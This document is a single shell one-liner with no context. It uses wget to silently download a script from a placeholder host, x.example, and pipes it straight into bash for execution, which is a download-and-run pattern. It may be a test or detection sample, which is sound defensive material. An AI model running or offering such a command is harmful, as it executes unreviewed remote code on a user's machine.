bash -c "$(wget -qO- http://x.example/s)"
